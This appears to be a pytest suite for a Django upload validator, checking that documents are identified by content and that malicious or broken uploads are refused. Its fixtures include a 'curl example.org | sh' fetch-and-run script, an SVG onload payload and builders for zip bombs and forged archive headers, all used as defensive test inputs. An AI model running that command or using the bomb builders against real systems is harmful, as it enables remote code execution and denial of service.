"""Tests of checks of uploaded documents."""

import errno
import struct
import zipfile
from hashlib import sha256
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.core.files import uploadedfile, uploadhandler
from django.core.handlers.wsgi import WSGIRequest
from django.utils import translation
from django.utils.functional import Promise
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter

from resources import archives, uploads
from resources.contents import checksum, look_into
from resources.formats import MEDIA_TYPES, charset
from resources.uploads import validate_document
from tests.factories import OFFICE, archive, epub, office, pdf, stored, upload

PDF = pdf()
SCRIPT = b"#!/bin/sh\ncurl https://example.org/ | sh\n"
PAGE = b"<!doctype html><title>Note</title><p>Text"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
ALL_LACKS = ["title", "language", "tags"]


def refusal_of(name, content):
    """The code with which that upload is refused; None if it is accepted."""
    try:
        validate_document(upload(name, content))
    except ValidationError as error:
        refusal = error
    else:
        return None
    assert isinstance(refusal.message, Promise), "the sentence could not be in the editor's language"
    return refusal.code


# --- By content, and not by name ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("note.pdf", PDF, "pdf"),
        ("NOTE.PDF", b"\n" + PDF, "pdf"),
        ("note.pdf", b"\x1b%-12345X@PJL JOB\r\n" + PDF, "pdf"),
        ("note.pdf", b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + PDF, "pdf"),
        ("note d’information (1).docx", office("docx"), "docx"),
        ("note.xlsx", office("xlsx"), "xlsx"),
        ("note.pptx", office("pptx"), "pptx"),
        ("note.epub", epub(), "epub"),
        ("note.html", PAGE, "html"),
        ("note.htm", b'<?xml version="1.0"?>\n<!-- by hand -->\n<HTML>', "html"),
        ("note.html", b"\xef\xbb\xbf  <html>\xc3\xa9", "html"),
        ("note.html", PAGE.decode().encode("utf-16"), "html"),
        ("note.txt", "Déclaration\r\n\tсвод\f".encode(), "txt"),
        ("note.txt", "Déclaration".encode("utf-16"), "txt"),
        ("note.txt", SCRIPT, "txt"),
        ("note.txt", b"a text that speaks of <html>", "txt"),
        ("note.txt", b"a text that speaks of %PDF-1.7", "txt"),
    ],
)
def test_document_of_a_known_kind_is_accepted(name, content, found):
    assert refusal_of(name, content) is None
    assert validate_document(upload(name, content)).media_type == MEDIA_TYPES[found]


@pytest.mark.parametrize("names", [["word/document.xml", "[Content_Types].xml"], ["[Content_Types].xml", "docProps"]])
def test_office_document_is_known_whatever_program_wrote_it(names):
    """Each office program puts the entries of the archive in an order of its own."""
    types = f"<Types><Override ContentType = '{OFFICE}wordprocessingml.document.main+xml'/></Types>"
    content = archive({name: types if name.startswith("[") else "" for name in names})
    assert refusal_of("note.docx", content) is None


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("note.pdf", SCRIPT, "document_name"),
        ("note.pdf", PAGE, "document_name"),
        ("note.txt", PAGE, "document_name"),
        ("note.pdf", b"MZ" + bytes(200), "document_name"),
        ("note.pdf", 1024 * b"x" + PDF, "document_name"),
        ("note.pdf", office("docx"), "document_name"),
        ("note.docx", PDF, "document_name"),
        ("note.docx", office("xlsx"), "document_name"),
        ("note.docx", OLD_OFFICE, "document_name"),
        ("note.docx", archive({"virus.exe": b"MZ"}), "document_name"),
        ("note.docx", archive({"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}), None),
        ("note.epub", archive({"mimetype": "application/zip"}), "document_name"),
        ("note.html", PDF, "document_name"),
        ("note.txt", "Déclaration".encode("latin-1"), "document_encoding"),
        ("note.html", "<!doctype html><p>L’État".encode("cp1252"), "document_encoding"),
        ("note.txt", "Декларация".encode("cp1251"), "document_encoding"),
        ("note.pdf", "Déclaration".encode("latin-1"), "document_name"),
        ("note.txt", b"a\0b", "document_name"),
        ("note.txt", b"a\x1b[2J", "document_name"),
        ("note.txt", "é".encode()[:1] + b"\0", "document_name"),
        ("note.pdf.exe", PDF, "document_type"),
        ("note.svg", b"<svg onload='steal()'/>", "document_type"),
        ("note.zip", archive({"note.pdf": PDF}), "document_type"),
        ("note", PDF, "document_type"),
        (".pdf", PDF, "document_type"),
        ("note.pdf", b"", "document_empty"),
    ],
)
def test_document_of_any_other_kind_is_refused(name, content, code):
    assert refusal_of(name, content) == (code or "document_name")


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("note.pdf", office("docx"), {"fr": [".pdf", "DOCX"], "en": ["“.pdf”", "DOCX"]}),
        ("note.pdf", b"\x89PNG\r\n\x1a\n" + bytes(300), {"fr": [".pdf", "PNG"], "en": ["“.pdf”", "PNG"]}),
        ("note.docx", SCRIPT, {"fr": [".docx", "texte brut"], "en": ["“.docx”", "plain text"]}),
        ("note.txt", bytes(300), {"fr": [".txt", "inconnu"], "en": ["“.txt”", "unknown"]}),
    ],
)
def test_refusal_says_what_the_name_promises_and_what_the_content_is(name, content, words, language):
    with pytest.raises(ValidationError) as refusal:
        validate_document(upload(name, content))
    with translation.override(language):
        [sentence] = refusal.value.messages
    assert [word for word in words[language] if word not in sentence] == []


@pytest.mark.parametrize(("text", "encoding"), [("a", "utf-8"), ("a", "utf-16")])
def test_charset_is_the_one_the_text_begins_with(text, encoding):
    assert charset(upload("note.txt", text.encode(encoding))) == encoding


def test_document_is_refused_over_the_limit_by_one_byte(settings):
    settings.DOCUMENT_MAX_BYTES = len(PDF)
    assert [refusal_of("note.pdf", content) for content in (PDF, PDF + b" ")] == [None, "document_too_large"]


def test_checksum_is_that_of_the_whole_content():
    content = PDF + bytes(3 * 2**16)  # more than one chunk
    assert checksum(upload("note.pdf", content)) == sha256(content).hexdigest()


@pytest.mark.parametrize(("name", "content"), [("note.pdf", PDF), ("note.docx", office("docx")), ("note.txt", b"a")])
def test_looking_at_an_upload_leaves_it_ready_to_be_stored(name, content):
    file = upload(name, content)
    file.read(1)
    validate_document(file)
    assert file.read() == content


@given(
    content=st.binary(max_size=300), start=st.sampled_from([b"", b"%PDF-1.7\n", b"PK\x03\x04", b"\xff\xfe", b"<html"])
)
@settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
def test_any_bytes_are_accepted_or_refused_with_a_sentence(content, start):
    for ending in ("pdf", "docx", "epub", "html", "txt"):
        refusal_of(f"note.{ending}", start + content)


# --- PDF ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "pages", "lacks"),
    [
        (pdf(3), 3, ALL_LACKS),
        (pdf(title="Note"), 1, ["language", "tags"]),
        (pdf(title=" ", language=" "), 1, ALL_LACKS),
        (pdf(2, title="Note", language="fr"), 2, ["tags"]),
        (pdf(title="Note", language="fr", is_tagged=True), 1, []),
        (pdf(4, user_password="", owner_password="secret", algorithm="AES-256"), 4, ALL_LACKS),
    ],
)
def test_pdf_tells_its_pages_and_what_a_screen_reader_will_miss(content, pages, lacks):
    found = validate_document(upload("note.pdf", content))
    assert (found.pages, found.lacks) == (pages, lacks)


def test_pdf_may_say_its_title_in_either_place():
    title = "<dc:title><rdf:Alt><rdf:li xml:lang='x-default'>Note</rdf:li></rdf:Alt></dc:title>"
    spaces = "xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns:dc='http://purl.org/dc/elements/1.1/'"
    packet = f"<rdf:RDF {spaces}><rdf:Description>{title}</rdf:Description></rdf:RDF>"
    file = BytesIO()
    writer = PdfWriter()
    writer.add_blank_page(10, 10)
    writer.xmp_metadata = packet.encode()
    writer.write(file)
    assert "title" not in validate_document(upload("note.pdf", file.getvalue())).lacks


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_pdf_that_asks_for_a_password_is_refused(algorithm):
    assert refusal_of("note.pdf", pdf(user_password="secret", algorithm=algorithm)) == "document_locked"


BROKEN = {
    "a head only": b"%PDF-1.7\n",
    "a head and an end": b"%PDF-1.7\n%%EOF\n",
    "half a file": pdf(50)[:700],
    "no pages": pdf(0),
    "no root": b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\ntrailer\n<< >>\nstartxref\n0\n%%EOF\n",
    "pages in a circle": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    "values in each other": b"%PDF-1.7\n1 0 obj" + 20_000 * b"[" + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    "no sense": b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"%%EOF",
}


@pytest.mark.parametrize("content", BROKEN.values(), ids=BROKEN)
def test_broken_pdf_is_refused(content):
    assert refusal_of("note.pdf", content) == "document_damaged"


# --- Archives ----------------------------------------------------------------------------------------------------


def test_what_unpacks_into_more_than_the_limit_is_refused(settings):
    content = office("docx", **{str(number): bytes(300_000) for number in range(10)})
    settings.DOCUMENT_MAX_BYTES = 700_000
    assert refusal_of("note.docx", content) == "document_bomb"


def test_dense_document_of_ordinary_size_is_accepted():
    assert refusal_of("note.xlsx", office("xlsx", sheet=bytes(10_000_000))) is None


def declaring(content, name, size):
    """The archive with another size declared for that entry, in both places."""
    changed = bytearray(content)
    for mark, at, to_name in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = -1
        while (start := changed.find(mark, start + 1)) >= 0:
            if changed[start + to_name :].startswith(name):
                struct.pack_into("<L", changed, start + at, size)
    return bytes(changed)


BOMB = office("docx", bomb=bytes(60_000_000))


@pytest.mark.parametrize(
    ("content", "code"),
    [(BOMB, "document_bomb"), (declaring(BOMB, b"bomb", 1000), "document_damaged")],
    ids=["as declared", "declares less than it holds"],
)
def test_bomb_is_refused_and_not_unpacked(monkeypatch, content, code):
    read = []
    plain = zipfile.ZipExtFile.read

    def counted(part, size=-1):
        read.append(len(found := plain(part, size)))
        return found

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counted)
    with pytest.raises(ValidationError) as refusal:
        look_into(upload("note.docx", content), "note.docx")
    assert refusal.value.code == code
    assert sum(read) < 10_000


def test_entries_over_each_other_are_refused():
    """One packed entry that the list names many times would unpack as often."""
    content = office("docx", noise=bytes(range(256)) * 40)
    start, end = content.find(b"PK\x01\x02"), content.rfind(b"PK\x05\x06")
    records = 60 * content[content.rfind(b"PK\x01\x02") : end] + content[start:end]
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 63, 63, len(records), start, 0)
    assert refusal_of("note.docx", content) is None
    assert refusal_of("note.docx", content[:start] + records + tail) == "document_bomb"


def test_list_of_entries_without_end_is_refused(monkeypatch):
    monkeypatch.setattr(archives, "_MAX_LIST_BYTES", 1000)
    with pytest.raises(ValidationError) as refusal:
        look_into(upload("note.docx", office("docx", **{str(n): "" for n in range(30)})))
    assert refusal.value.code == "document_bomb"


def in_the_long_form(content, entries_bytes, comment=b"", mark=b"PK\x06\x06"):
    """The archive with its list of entries, of that length, announced by a record in the long form."""
    end = content.rfind(b"PK\x05\x06")
    _mark, _disk, _first, here, total, _bytes, start, _comment = struct.unpack("<4s4H2LH", content[end:])
    record = struct.pack("<4sQ2H2L4Q", mark, 44, 45, 45, 0, 0, here, total, entries_bytes, start)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, here, total, 2**32 - 1, 2**32 - 1, len(comment)) + comment
    return content[:end] + record + locator + tail


@pytest.mark.parametrize("comment", [b"", bytes(2**16 - 1)])
def test_list_of_entries_in_the_long_form_has_the_same_limit(comment):
    content = office("docx")
    length = content.rfind(b"PK\x05\x06") - content.find(b"PK\x01\x02")
    assert refusal_of("note.docx", in_the_long_form(content, length, comment)) is None
    assert refusal_of("note.docx", in_the_long_form(content, 2**20 + 1, comment)) == "document_bomb"


def test_long_form_that_is_somewhere_else_is_refused():
    """Its length would be another than the one that was looked at."""
    content = in_the_long_form(office("docx"), 100, mark=b"PKxx")
    assert refusal_of("note.docx", content) == "document_bomb"


def locked(content):
    """The archive, with every entry declared as encrypted."""
    changed = bytearray(content)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := changed.find(mark, start + 1)) >= 0:
            changed[start + at] |= 1
    return bytes(changed)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (locked(office("docx")), "document_locked"),
        (OLD_OFFICE + "EncryptedPackage".encode("utf-16-le"), "document_locked"),
        (office("docx")[:-30], "document_damaged"),
        (b"PK\x03\x04" + bytes(100), "document_damaged"),
        (declaring(office("docx"), b"_rels", 3), "document_damaged"),
        (archive({"[Content_Types].xml": bytes(50_000_000)}, zipfile.ZIP_LZMA), "document_damaged"),
    ],
)
def test_archive_that_nobody_could_open_is_refused(content, code):
    assert refusal_of("note.docx", content) == code


# --- Too large for anybody ---------------------------------------------------------------------------------------


class Flood(BytesIO):
    """The body of a request with files as large as one likes, which exist nowhere."""

    def __init__(self, *sizes):
        self.parts = self._parts(sizes)
        self.rest = b""

    def _parts(self, sizes):
        for number, size in enumerate(sizes):
            yield f'--x\r\nContent-Disposition: form-data; name="files"; filename="{number}.pdf"\r\n\r\n'.encode()
            for start in range(0, size, 2**16):
                yield bytes(min(2**16, size - start))
            yield b"\r\n"
        yield b"--x--\r\n"

    def read(self, size=-1):
        while len(self.rest) < size and (part := next(self.parts, None)) is not None:
            self.rest += part
        found, self.rest = self.rest[:size], self.rest[size:]
        return found


@pytest.fixture
def received(settings, tmp_path):
    """What the site gets of a request with files of those sizes, and the most it wrote for it at any time."""
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path
    seen = []

    def receive(*sizes):
        flood = Flood(*sizes)
        plain = flood.read

        def watched(size=-1):
            seen.append(sum(path.stat().st_size for path in tmp_path.iterdir()))
            return plain(size)

        flood.read = watched
        kind = {"CONTENT_TYPE": "multipart/form-data; boundary=x", "CONTENT_LENGTH": str(2**30)}
        request = WSGIRequest({"REQUEST_METHOD": "POST", "wsgi.input": flood, **kind})
        kept = [(file.size, refused(file)) for file in request.FILES.getlist("files")]
        request.close()
        return kept, max(seen)

    return receive


def refused(file):
    """The code with which the limit refuses it; None if it leaves that to others."""
    try:
        validate_document(file)
    except ValidationError as refusal:
        return refusal.code if refusal.code.endswith(("_too_large", "no_room")) else None


def test_two_hundred_megabytes_are_refused_and_not_kept(received, settings, tmp_path):
    size = 200 * 2**20
    assert size > settings.DOCUMENT_MAX_BYTES
    settings.DOCUMENT_MAX_BYTES = 2**20
    files, written = received(size)
    assert files == [(size, "document_too_large")]
    assert (0 < written <= 2**20, stored(tmp_path)) == (True, [])


def test_file_beside_one_that_is_too_large_is_kept(received, settings, tmp_path):
    settings.DOCUMENT_MAX_BYTES = 2**20
    files, _written = received(1000, 2**21, 2**20)
    assert files == [(1000, None), (2**21, "document_too_large"), (2**20, None)]
    assert stored(tmp_path) == []


def test_files_that_are_too_large_together_are_not_all_kept(received, settings, tmp_path):
    settings.UPLOAD_MAX_BYTES = 3000
    files, written = received(2000, 2000, 500)
    assert files == [(2000, None), (2000, "documents_too_large"), (500, None)]
    assert (written <= 3000, stored(tmp_path)) == (True, [])


class Full(uploadedfile.TemporaryUploadedFile):
    """A file that finds no room at one step of its way, if it is the first."""

    step = ""

    def __init__(self, name, *args):
        self._try("open", name)
        super().__init__(name, *args)

    def write(self, data):
        self._try("write", self.name)
        return self.file.write(data)

    def seek(self, *args):
        self._try("seek", self.name)
        return self.file.seek(*args)

    def _try(self, step, name):
        if (step, name) == (self.step, "0.pdf"):
            raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("step", ["open", "write", "seek"])
def test_file_for_which_there_is_no_room_is_refused_and_the_others_are_kept(received, monkeypatch, tmp_path, step):
    """The disk is full when it comes, while it comes, or when the last of it is to be written."""
    monkeypatch.setattr(Full, "step", step)
    monkeypatch.setattr(uploadhandler, "TemporaryUploadedFile", Full)
    files, _written = received(200_000, 1000)
    assert files == [(200_000, "no_room"), (1000, None)]
    assert stored(tmp_path) == []


def test_site_uses_the_limit(settings):
    assert f"{uploads.__name__}.{uploads.LimitedUploadHandler.__name__}" == settings.FILE_UPLOAD_HANDLERS[-1]
